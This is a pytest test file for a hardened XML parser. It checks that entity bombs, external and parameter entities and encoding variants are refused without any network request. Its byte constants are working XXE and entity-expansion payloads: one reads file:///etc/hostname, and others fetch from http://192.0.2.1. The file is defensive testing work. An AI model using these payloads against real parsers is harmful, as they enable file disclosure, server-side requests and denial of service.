"""Hostile XML is refused before an entity is declared, and no request leaves the machine."""

import socket

import pytest

from integrations.errors import Unreadable
from integrations.files import safe_xml

BOMB = b"""<!DOCTYPE b [<!ENTITY a "1234567890"><!ENTITY c "&a;&a;&a;&a;">]><b>&c;</b>"""
EXTERNAL = b"""<!DOCTYPE x [<!ENTITY ee SYSTEM "http://192.0.2.1/note.xml">]><root>&ee;</root>"""
FILE = b"""<!DOCTYPE x [<!ENTITY ee SYSTEM "file:///etc/hostname">]><root>&ee;</root>"""
PARAMETER = b"""<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]><root/>"""
QUADRATIC = b"<!DOCTYPE b [<!ENTITY a '" + b"x" * 50_000 + b"'>]><b>" + b"&a;" * 1_000 + b"</b>"


@pytest.fixture
def no_network(monkeypatch):
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a request was made")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


@pytest.mark.parametrize("raw", [BOMB, EXTERNAL, FILE, PARAMETER, QUADRATIC, b"\xef\xbb\xbf" + BOMB])
@pytest.mark.usefixtures("no_network")
def test_bad_input_21_a_document_type_is_refused(raw):
    with pytest.raises(Unreadable) as caught:
        safe_xml.parse(raw)
    assert caught.value.code == "xml_refused"


def test_bad_input_21_a_document_type_in_utf_16_is_refused():
    with pytest.raises(Unreadable) as caught:
        safe_xml.parse(BOMB.decode().encode("utf-16"))
    assert caught.value.code == "xml_refused"


def test_broken_xml_is_told_with_its_line():
    with pytest.raises(Unreadable) as caught:
        safe_xml.parse(b"<a>\n<b>\n</a>")
    assert (caught.value.code, caught.value.line) == ("not_xml", 3)


def test_namespaces_do_not_matter():
    root = safe_xml.parse(b"<x:a xmlns:x='urn:y'><x:b> 1\n 2 </x:b></x:a>")
    assert (root.tag, safe_xml.text(root, "b")) == ("a", "1 2")


def test_chinese_alphabets_are_read_and_guarded_alike():
    head = '<?xml version="1.0" encoding="GB18030"?>'
    assert safe_xml.text(safe_xml.parse(f"{head}<a><b>张三</b></a>".encode("gb18030")), "b") == "张三"
    with pytest.raises(Unreadable) as caught:
        safe_xml.parse((head + BOMB.decode()).encode("gb18030"))
    assert caught.value.code == "xml_refused"


@pytest.mark.usefixtures("no_network")
def test_the_hostile_samples_are_refused(shared):
    for file in sorted((shared / "samples" / "xml_hostile").glob("*.xml")):
        if file.name == "simple.xml":
            assert safe_xml.parse(file.read_bytes()).tag == "root"
            continue
        with pytest.raises(Unreadable) as caught:
            safe_xml.parse(file.read_bytes())
        assert caught.value.code == "xml_refused", file.name
